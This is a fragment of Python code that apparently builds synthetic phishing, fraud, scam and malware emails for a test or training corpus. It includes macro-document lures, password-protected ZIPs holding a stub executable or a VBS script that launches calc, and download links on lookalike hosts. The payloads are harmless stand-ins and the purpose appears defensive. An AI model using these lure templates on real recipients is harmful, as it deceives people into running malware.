                text="Please review the attached document. If content is not displayed, click Enable Editing and "
                     "then Enable Content.", atts=[Att(name, ctype, docm)])


def m_password_zip(rng: random.Random, a: Acct) -> Built:
    pw = str(rng.randint(1000, 9999))
    inner = rng.choice((("Invoice.exe", b"MZ\x90\x00" + bytes(200)), ("Documents.vbs", b"CreateObject(\"WScript.Shell\")"
                                                                                       b".Run \"cmd /c calc\"")))
    return note(rng, a, rng.choice(("Encrypted documents", "Confidential - password inside", "Payment copy")),
                rng.choice(("Accounting", "Legal Dept", "HR")),
                text=f"The attached file is encrypted for your security.\n\nPassword: {pw}\n\nRegards",
                atts=[Att(f"Docs_{pw}.zip", "application/zip", _zip([inner], password=True))])


def m_link(rng: random.Random, a: Acct) -> Built:
    host = rng.choice((f"https://{bad_host(rng)}/download/", "https://cdn.discordapp.com/attachments/"
                       f"{rng.randint(10**17, 10**18)}/{rng.randint(10**17, 10**18)}/",
                       f"https://{rng.choice([x.domain for x in ACCOUNTS])}/wp-content/uploads/2025/"))
    file = rng.choice(("Invoice_2026.zip", "Scan0042.vbs", "Setup_Update.msi", "Fatura.zip", "Documento.7z"))
    text = rng.choice((f"Your invoice is ready. Download it here: {host}{file}",
                       f"The files are too large for email. Download: {host}{file}",
                       f"Browser update required to view this message: {host}{file}"))
    return note(rng, a, rng.choice(("Invoice available", "Files shared with you", "Documento pendiente")),
                rng.choice(("Billing", "File Transfer", "Administración")), text=text,
                html=page(rng, "", paras_html([text.split(':')[0]]) + button(host + file, "Download", rng))
                if rng.random() < 0.5 else None)


#: (family, kind, count, builder)
FAMILIES: tuple[tuple[str, str, int, Builder], ...] = (
    ("c_phish_quota", "phishing", 7, p_quota),
    ("c_phish_shared_doc", "phishing", 7, p_shared_doc),
    ("c_phish_voicemail", "phishing", 7, p_voicemail),
    ("c_phish_mfa", "phishing", 7, p_mfa),
    ("c_phish_payroll", "phishing", 7, p_payroll),
    ("c_phish_tax", "phishing", 7, p_tax),
    ("c_phish_parcel", "phishing", 7, p_parcel),
    ("c_phish_bank", "phishing", 7, p_bank),
    ("c_phish_brand", "phishing", 7, p_brand),
    ("c_phish_qr", "phishing", 7, p_qr),
    ("c_bec_giftcard", "fraud", 7, f_ceo_giftcard),
    ("c_bec_wire", "fraud", 6, f_wire),
    ("c_invoice_bank_change", "fraud", 7, f_bank_change),
    ("c_advance_fee", "scam", 6, f_advance_fee),
    ("c_inheritance", "scam", 6, f_inheritance),
    ("c_crypto", "scam", 7, f_crypto),
    ("c_sextortion", "scam", 7, f_sextortion),
    ("c_tech_support", "scam", 7, f_tech_support),
    ("c_callback", "scam", 7, f_callback),
    ("c_job_scam", "scam", 6, f_job),
    ("c_loan", "scam", 6, f_loan),
    ("c_prize", "scam", 6, f_prize),
    ("c_seo", "bulk", 6, f_seo),
    ("c_pharma", "bulk", 6, f_pharma),
    ("c_malware_attachment", "malware", 8, m_attachment),
    ("c_html_smuggling", "malware", 6, m_html_smuggling),
    ("c_macro_doc", "malware", 6, m_macro),
    ("c_password_zip", "malware", 6, m_password_zip),
    ("c_malware_link", "malware", 6, m_link),
)
